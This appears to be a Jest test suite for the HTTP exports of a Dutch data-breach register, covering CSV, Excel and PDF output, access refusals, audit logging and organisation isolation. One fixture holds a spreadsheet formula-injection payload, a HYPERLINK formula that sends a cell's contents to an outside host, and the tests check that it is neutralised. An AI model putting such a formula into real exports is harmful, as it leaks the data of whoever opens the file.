import request from 'supertest';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { DataSource } from 'typeorm';
import { ACTING_ORGANISATION_HEADER } from '@babyconnect/contracts';
import { PLATFORM_CHAIN } from '../src/access-log/hash-chain';
import { logRows } from './support/access-log';
import { gql, ORG } from './support/gql';
import { ok, report, step, withInput, type IncidentView } from './support/incidents';
import { pdfText } from './support/pdf-text';
import { startTestApp, type TestApp } from './support/test-app';
import { tokenFor } from './support/tokens';

// The register's HTTP exports: golden files read back (CSV with csv-parse, .xlsx with exceljs, PDF by its text),
// refusals logged, other organisations' data absent, and a download cut off half-way freeing its connection.

jest.setTimeout(180_000);

const DISCOVERED = '2026-03-02T09:15:00.000Z';
/** Every kind of awkward text a cell can hold. */
const NASTY = [
  '=HYPERLINK("https://example.org/x?d="&A1;"klik")',
  'regel twee; met puntkomma en "aanhalingstekens"',
  'emoji 🍼👶 en rechts-naar-links: שלום עולם مرحبا',
  'Dutch: cliënten, geëvalueerd, ’s nachts, één, ĳs',
].join('\n');
const HUGE = 'Lange tekst zonder einde. '.repeat(4000).slice(0, 100_000);

function binary(res: request.Response, done: (err: Error | null, body: Buffer) => void) {
  const stream = res as unknown as http.IncomingMessage;
  const chunks: Buffer[] = [];
  stream.on('data', (c: Buffer) => chunks.push(c));
  stream.on('end', () => done(null, Buffer.concat(chunks)));
}

describe('register exports over HTTP', () => {
  let t: TestApp;
  let nasty: IncidentView;
  let huge: IncidentView;

  beforeAll(async () => {
    t = await startTestApp();
    nasty = await report(t.http, 'wieg-medewerker', { discoveredAt: DISCOVERED, whatHappened: 'Tijdelijk.' });
    nasty = await ok(
      step(
        t.http,
        'wieg-privacy',
        'assessIncident',
        nasty,
        { input: { conclusion: 'BREACH', reasoning: '-1+1 leek een formule; cliënten betrokken.' } },
        ...withInput('AssessIncidentInput'),
      ),
    );
    huge = await report(t.http, 'wieg-medewerker', { discoveredAt: DISCOVERED, whatHappened: 'Tijdelijk.' });
    // Texts the workflow would refuse (over 4,000 characters) or warn about, put in as old data may hold them: the
    // exports must carry them intact whatever the input rules are.
    await t.db.sql(
      `UPDATE incidents SET state = jsonb_set(state, '{report,whatHappened}', to_jsonb($2::text)) WHERE id = $1`,
      [nasty.id, NASTY],
    );
    await t.db.sql(
      `UPDATE incidents SET state = jsonb_set(state, '{report,whatHappened}', to_jsonb($2::text)) WHERE id = $1`,
      [huge.id, HUGE],
    );
    await report(t.http, 'wieg-medewerker', {
      discoveredAt: DISCOVERED,
      whatHappened: 'Oefening in de export.',
      exercise: true,
    });
    await report(t.http, 'nest-medewerker', {
      discoveredAt: DISCOVERED,
      whatHappened: 'Alleen Het Nest mag dit zien.',
    });
  });
  afterAll(() => t.close());

  const get = async (path: string, user: string | null, organisationId?: string) => {
    const req = request(t.http).get(path).buffer(true).parse(binary);
    if (user) req.set('authorization', `Bearer ${await tokenFor(user)}`);
    if (organisationId) req.set(ACTING_ORGANISATION_HEADER, organisationId);
    return req;
  };
  const period = 'from=2026-03-01T00:00:00Z&to=2026-03-03T00:00:00Z';

  it('CSV: UTF-8 with BOM, formulas neutralised, every awkward text intact', async () => {
    const res = await get(`/exports/register.csv?${period}`, 'wieg-privacy');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="datalekregister-vp-de-wieg-.*\.csv"$/);
    expect(res.headers['cache-control']).toBe('no-store');
    const body = res.body as Buffer;
    expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parse(body.toString('utf8'), { bom: true, delimiter: ';', relax_column_count: false }) as string[][];
    const header = rows[0]!;
    expect(header.slice(0, 3)).toEqual(['Kenmerk', 'Fase', 'Uitkomst']);
    const col = (name: string) => header.indexOf(name);
    const row = (ref: string) => rows.find((r) => r[0] === ref)!;
    expect(row(nasty.reference)[col('Wat is er gebeurd')]).toBe(`'${NASTY}`);
    expect(row(nasty.reference)[col('Beoordeling (stap 2)')]).toBe(`'-1+1 leek een formule; cliënten betrokken.`);
    expect(row(huge.reference)[col('Wat is er gebeurd')]).toBe(HUGE);
    expect(row(nasty.reference)[col('Ontdekt')]).toBe('2026-03-02 10:15');
    // No cell starts a formula.
    for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // Exercises never; another organisation's incidents never.
    expect(body.toString('utf8')).not.toContain('Oefening in de export');
    expect(body.toString('utf8')).not.toContain('Alleen Het Nest');
  });

  it('Excel: typed columns, frozen header, text intact and inert, too-long text shortened visibly', async () => {
    const res = await get(`/exports/register.xlsx?${period}`, 'wieg-auditor');
    expect(res.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    const file = res.body as Buffer;
    await workbook.xlsx.load(file.buffer.slice(file.byteOffset, file.byteOffset + file.byteLength) as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.name).toBe('Datalekregister');
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(header[0]).toBe('Kenmerk');
    const col = (name: string) => header.indexOf(name) + 1;
    let nastyRow: ExcelJS.Row | null = null;
    let hugeRow: ExcelJS.Row | null = null;
    sheet.eachRow((r) => {
      if (r.getCell(1).value === nasty.reference) nastyRow = r;
      if (r.getCell(1).value === huge.reference) hugeRow = r;
    });
    const what = nastyRow!.getCell(col('Wat is er gebeurd'));
    expect(what.value).toBe(NASTY);
    expect(what.type).toBe(ExcelJS.ValueType.String); // a string cell, never a formula
    const discovered = nastyRow!.getCell(col('Ontdekt'));
    expect(discovered.type).toBe(ExcelJS.ValueType.Date);
    expect((discovered.value as Date).toISOString()).toBe('2026-03-02T10:15:00.000Z'); // Amsterdam wall clock
    expect(discovered.numFmt).toBe('yyyy-mm-dd hh:mm');
    expect(nastyRow!.getCell(col('Gemeld bij AP')).value).toBe(false);
    const long = hugeRow!.getCell(col('Wat is er gebeurd')).value as string;
    expect(long.length).toBe(32_767);
    expect(long.endsWith('[ingekort: zie de PDF of CSV]')).toBe(true);
    expect(long.startsWith(HUGE.slice(0, 1000))).toBe(true);
  });

  it('PDF: organisation, period, page numbers, export time, Dutch text; long text flows over pages', async () => {
    const res = await get(`/exports/register.pdf?${period}`, 'wieg-fg');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('application/pdf');
    const body = res.body as Buffer;
    expect(body.subarray(0, 5).toString()).toBe('%PDF-');
    const text = pdfText(body);
    expect(text).toContain('Verloskundigenpraktijk De Wieg');
    expect(text).toContain(
      'Datalekregister (AVG art. 33 lid 5) · ontdekt vanaf zondag 1 maart 2026 tot dinsdag 3 maart 2026',
    );
    expect(text).toMatch(/Geëxporteerd: \w+dag \d+ \w+ 20\d\d om \d\d:\d\d CES?T/);
    expect(text).toContain('Pagina 1');
    expect(text).toContain('Pagina 2');
    expect(text).toContain(nasty.reference);
    expect(text).toContain('Dutch: cliënten, geëvalueerd, ’s nachts, één');
    expect(text).toContain('=HYPERLINK(');
    expect(text).not.toContain('Alleen Het Nest');
    // 100,000 characters fit on A4 only over many pages: the layout goes on, nothing is cut.
    const pages = Number(/Pagina (\d+)(?![\s\S]*Pagina \d)/.exec(text)![1]);
    expect(pages).toBeGreaterThan(10);
    expect(text.replace(/\n/g, ' ')).toContain('Lange tekst zonder einde. Lange tekst');
  });

  it("one incident's full file as PDF: steps, decisions, history", async () => {
    const res = await get(`/exports/incidents/${nasty.id}.pdf`, 'wieg-privacy');
    expect(res.status).toBe(200);
    expect(res.headers['content-disposition']).toContain(`datalek-${nasty.reference}.pdf`);
    const text = pdfText(res.body as Buffer);
    expect(text).toContain(`Dossier datalek ${nasty.reference}`);
    expect(text).toContain('Antwoorden voor het meldformulier van de AP');
    expect(text).toContain('Geschiedenis');
    expect(text).toMatch(/v2 · .* · assess/);
    expect(text).toContain('-1+1 leek een formule; cliënten betrokken.');
  });

  it('the AP answers as text and PDF: the GraphQL answers in the form order, Dutch and English', async () => {
    const answers = await gql<{
      apNotificationAnswers: { textNl: string; textEn: string; sections: { title: { nl: string } }[] };
    }>(t.http, {
      token: await tokenFor('wieg-fg'),
      query: `query($id: ID!) { apNotificationAnswers(incidentId: $id) { textNl textEn sections { title { nl } } } }`,
      variables: { id: nasty.id },
    });
    const view = answers.data!.apNotificationAnswers;
    const txt = await get(`/exports/incidents/${nasty.id}/ap-notification.txt`, 'wieg-fg');
    expect(txt.status).toBe(200);
    expect(txt.headers['content-type']).toBe('text/plain; charset=utf-8');
    expect(txt.headers['content-disposition']).toContain(`ap-melding-${nasty.reference}.txt`);
    const text = (txt.body as Buffer).toString('utf8');
    expect(text.startsWith(`Melding aan de AP — ${nasty.reference}\nVerloskundigenpraktijk De Wieg`)).toBe(true);
    expect(text).toContain(view.textNl); // every answer, exactly as the page's "copy everything"
    expect(text).toContain('cliënten, geëvalueerd'); // what happened, Dutch characters intact
    const en = (await get(`/exports/incidents/${nasty.id}/ap-notification.txt?lang=en`, 'wieg-fg')).body as Buffer;
    expect(en.toString('utf8')).toContain(view.textEn);

    const pdf = await get(`/exports/incidents/${nasty.id}/ap-notification.pdf`, 'wieg-auditor');
    expect(pdf.status).toBe(200);
    expect(pdf.headers['content-type']).toBe('application/pdf');
    const read = pdfText(pdf.body as Buffer);
    expect(read).toContain(`Melding aan de AP — ${nasty.reference}`);
    expect(read).toContain('Verloskundigenpraktijk De Wieg');
    expect(read).toContain('Pagina 1');
    // Every section title, in the form's order.
    const at = view.sections.map((s) => read.indexOf(s.title.nl));
    expect(at.every((i) => i >= 0)).toBe(true);
    expect([...at].sort((a, b) => a - b)).toEqual(at);
    expect(read).toContain('nog niet bekend'); // a missing answer says so, never a guess
  });

  it('the letter as text and PDF: the draft until one is saved, then the newest version or the one asked for', async () => {
    const mine = await report(t.http, 'wieg-medewerker', {
      discoveredAt: DISCOVERED,
      whatHappened: 'De overdrachtsmap is na de avonddienst zoekgeraakt.',
    });
    const letterQuery = `query($id: ID!, $variant: LetterVariant, $language: LetterLanguage) {
      dataSubjectLetter(incidentId: $id, variant: $variant, language: $language) { draft { subject body } } }`;
    const draftOf = async (variables: Record<string, unknown>) =>
      (
        await gql<{ dataSubjectLetter: { draft: { subject: string; body: string } } }>(t.http, {
          token: await tokenFor('wieg-privacy'),
          query: letterQuery,
          variables: { id: mine.id, ...variables },
        })
      ).data!.dataSubjectLetter.draft;
    const draft = await draftOf({});
    const first = await get(`/exports/incidents/${mine.id}/letter.txt`, 'wieg-privacy');
    expect(first.status).toBe(200);
    expect(first.headers['content-disposition']).toContain(`brief-betrokkenen-${mine.reference}-concept.txt`);
    expect((first.body as Buffer).toString('utf8')).toBe(`${draft.subject}\n\n${draft.body.trimEnd()}\n`);
    const publicEn = await draftOf({ variant: 'PUBLIC_COMMUNICATION', language: 'EN' });
    const en = await get(`/exports/incidents/${mine.id}/letter.txt?lang=en&variant=public-communication`, 'wieg-fg');
    expect(en.headers['content-disposition']).toContain(`public-communication-${mine.reference}-draft.txt`);
    expect((en.body as Buffer).toString('utf8')).toBe(`${publicEn.subject}\n\n${publicEn.body.trimEnd()}\n`);

    const save = async (body: string) => {
      const res = await gql(t.http, {
        token: await tokenFor('wieg-privacy'),
        query: `mutation($id: ID!, $input: SaveDataSubjectLetterInput!) {
          saveDataSubjectLetter(incidentId: $id, input: $input) { versions { version } } }`,
        variables: {
          id: mine.id,
          input: { language: 'NL', variant: 'LETTER', subject: draft.subject, body, confirmPrivacyWarnings: true },
        },
      });
      expect(res.errors).toEqual([]);
    };
    await save(`${draft.body}\n\nVersie één: bel gerust, ook ’s avonds.`);
    await save(`${draft.body}\n\nVersie twee: wij bellen u terug.`);
    const newest = (await get(`/exports/incidents/${mine.id}/letter.txt`, 'wieg-privacy')).body as Buffer;
    expect(newest.toString('utf8')).toContain('Versie twee: wij bellen u terug.');
    const v1 = await get(`/exports/incidents/${mine.id}/letter.pdf?version=1`, 'wieg-privacy');
    expect(v1.status).toBe(200);
    expect(v1.headers['content-disposition']).toContain(`brief-betrokkenen-${mine.reference}-v1.pdf`);
    const read = pdfText(v1.body as Buffer);
    expect(read).toContain(`${mine.reference} · versie 1`);
    expect(read).toContain(draft.subject);
    expect(read.replace(/\n/g, ' ')).toContain('Versie één: bel gerust, ook ’s avonds.');
    expect(read).not.toContain('Versie twee');
    expect(read).not.toContain('Geëxporteerd'); // a letter for data subjects carries no export line
    const missing = await get(`/exports/incidents/${mine.id}/letter.pdf?version=9`, 'wieg-privacy');
    expect(missing.status).toBe(400);
    expect((missing.body as Buffer).toString()).not.toContain('%PDF');
  });

  it('refuses and logs the AP answers and the letter like the other exports', async () => {
    expect((await get(`/exports/incidents/${nasty.id}/ap-notification.pdf`, null)).status).toBe(401);
    expect((await get(`/exports/incidents/${nasty.id}/letter.txt`, 'wieg-medewerker')).status).toBe(403);
    const other = await get(`/exports/incidents/${nasty.id}/ap-notification.txt`, 'nest-privacy');
    expect(other.status).toBe(404);
    expect((other.body as Buffer).toString()).not.toContain('Melding aan de AP');
    expect((await get(`/exports/incidents/${nasty.id}/passwords.txt`, 'wieg-privacy')).status).toBe(404);
    expect((await get(`/exports/incidents/${nasty.id}/letter.txt?variant=brief`, 'wieg-privacy')).status).toBe(400);
    const ok = await get(`/exports/incidents/${nasty.id}/ap-notification.pdf`, 'wieg-privacy');
    expect(ok.status).toBe(200);

    const rows = await logRows(t.db, `operation LIKE 'export:incident.%'`);
    const find = (operation: string, reason: string | null, chain: string | null) =>
      rows.find((r) => r.operation === operation && r.reason === reason && r.chain_id === chain);
    expect(find('export:incident.ap-notification.pdf', 'UNAUTHENTICATED', PLATFORM_CHAIN)).toMatchObject({
      result: 'refused',
    });
    expect(find('export:incident.letter.txt', 'FORBIDDEN', ORG.wieg)).toMatchObject({
      result: 'refused',
      roles: 'employee',
      object_ids: [nasty.id],
    });
    expect(find('export:incident.ap-notification.txt', 'NOT_FOUND', ORG.nest)).toMatchObject({
      object_ids: [nasty.id],
    });
    expect(find('export:incident.document', 'NOT_FOUND', ORG.wieg)).toBeDefined();
    expect(find('export:incident.letter.txt', 'BAD_USER_INPUT', ORG.wieg)).toBeDefined();
    const allowed = rows.filter(
      (r) =>
        r.operation === 'export:incident.ap-notification.pdf' &&
        r.result === 'allowed' &&
        r.roles === 'privacy-officer',
    );
    expect(allowed[0]).toMatchObject({
      result: 'allowed',
      roles: 'privacy-officer',
      fields: ['incident.ap-notification.pdf:allowed'],
      object_ids: [nasty.id],
    });
  });

  it('refuses and logs: no token, a role that may not read, another organisation, another organisation’s incident', async () => {
    // The allowed exports this test compares with, made here: the other tests may run after this one.
    expect((await get(`/exports/register.csv`, 'wieg-privacy')).status).toBe(200);
    expect((await get(`/exports/incidents/${nasty.id}.pdf`, 'wieg-privacy')).status).toBe(200);
    const none = await get(`/exports/register.csv`, null);
    expect(none.status).toBe(401);
    const employee = await get(`/exports/register.csv`, 'wieg-medewerker');
    expect(employee.status).toBe(403);
    expect(JSON.parse((employee.body as Buffer).toString())).toMatchObject({ code: 'FORBIDDEN' });
    const otherOrg = await get(`/exports/register.xlsx`, 'nest-privacy', ORG.wieg);
    expect(otherOrg.status).toBe(403);
    const otherIncident = await get(`/exports/incidents/${nasty.id}.pdf`, 'nest-privacy');
    expect(otherIncident.status).toBe(404);
    expect((otherIncident.body as Buffer).toString()).not.toContain('%PDF');
    const badFilter = await get(`/exports/register.pdf?from=gisteren`, 'wieg-privacy');
    expect(badFilter.status).toBe(400);

    const rows = await logRows(t.db, `operation LIKE 'export:%'`);
    const find = (operation: string, reason: string | null, chain: string | null) =>
      rows.find((r) => r.operation === operation && r.reason === reason && r.chain_id === chain);
    expect(find('export:register.csv', 'UNAUTHENTICATED', PLATFORM_CHAIN)).toMatchObject({ result: 'refused' });
    expect(find('export:register.csv', 'FORBIDDEN', ORG.wieg)).toMatchObject({
      result: 'refused',
      roles: 'employee',
      fields: ['register.csv:refused:FORBIDDEN'],
    });
    // The attempt on De Wieg from a member of Het Nest goes into De Wieg's chain: its FG sees it.
    expect(find('export:register.xlsx', 'FORBIDDEN', ORG.wieg)).toMatchObject({ target_organisation_id: ORG.wieg });
    expect(find('export:incident.pdf', 'NOT_FOUND', ORG.nest)).toMatchObject({ object_ids: [nasty.id] });
    expect(find('export:register.pdf', 'BAD_USER_INPUT', ORG.wieg)).toBeDefined();
    // The allowed exports are logged like a GraphQL operation, with who and in which role.
    expect(find('export:register.csv', null, ORG.wieg)).toMatchObject({
      result: 'allowed',
      roles: 'privacy-officer',
      fields: ['register.csv:allowed'],
    });
    expect(find('export:incident.pdf', null, ORG.wieg)).toMatchObject({ object_ids: [nasty.id] });
  });

  it("another organisation's export holds only its own incidents", async () => {
    const res = await get(`/exports/register.csv?${period}`, 'nest-privacy');
    expect(res.status).toBe(200);
    const text = (res.body as Buffer).toString('utf8');
    expect(text).toContain('Alleen Het Nest mag dit zien.');
    expect(text).not.toContain('HYPERLINK');
    expect(text).not.toContain(nasty.id);
  });

  it('a download cut off half-way stops reading and frees its database connection', async () => {
    // Zonnedauw gets 3,000 incidents (copies of one), enough for a download that is still running when cut.
    const seed = await report(t.http, 'zonnedauw-medewerker', {
      discoveredAt: DISCOVERED,
      whatHappened: HUGE.slice(0, 3000),
    });
    await t.db.sql(
      `INSERT INTO incidents (organisation_id, year, number, version, stage, exercise, reported_by, reported_at,
              discovered_at, ap_deadline, ap_notified_at, ap_not_needed, state, updated_at)
       SELECT organisation_id, year, 1000 + g, version, stage, exercise, reported_by, reported_at, discovered_at,
              ap_deadline, ap_notified_at, ap_not_needed, state, updated_at
         FROM incidents, generate_series(1, 3000) g WHERE id = $1`,
      [seed.id],
    );
    const server = http.createServer(t.app.getHttpAdapter().getInstance());
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const port = (server.address() as AddressInfo).port;
    const token = await tokenFor('zonnedauw-privacy');
    const received = await new Promise<number>((resolve, reject) => {
      const req = http.get(
        { host: '127.0.0.1', port, path: '/exports/register.pdf', headers: { authorization: `Bearer ${token}` } },
        (res) => {
          let bytes = 0;
          res.on('data', (c: Buffer) => {
            bytes += c.length;
            if (bytes > 50_000) {
              req.destroy();
              resolve(bytes);
            }
          });
          res.on('end', () => reject(new Error('the whole export arrived before it could be cut off')));
        },
      );
      req.on('error', () => undefined);
    });
    expect(received).toBeGreaterThan(50_000);
    const pool = (t.app.get(DataSource).driver as unknown as { master: { totalCount: number; idleCount: number } })
      .master;
    const deadline = Date.now() + 20_000;
    let rows: Awaited<ReturnType<typeof logRows>> = [];
    while (Date.now() < deadline) {
      rows = await logRows(t.db, `operation = 'export:register.pdf' AND reason = 'CLIENT_CLOSED'`);
      if (rows.length > 0 && pool.idleCount === pool.totalCount) break;
      await new Promise((r) => setTimeout(r, 200));
    }
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ chain_id: ORG.zonnedauw, result: 'failed' });
    expect(pool.idleCount).toBe(pool.totalCount); // every connection back in the pool: none held by the export
    const open = await t.db.sql<{ n: string }>(
      `SELECT count(*)::text AS n FROM pg_stat_activity WHERE state LIKE 'idle in transaction%' AND datname = current_database()`,
    );
    expect(open[0]!.n).toBe('0');
    await new Promise<void>((resolve) => server.close(() => resolve()));
  });
});
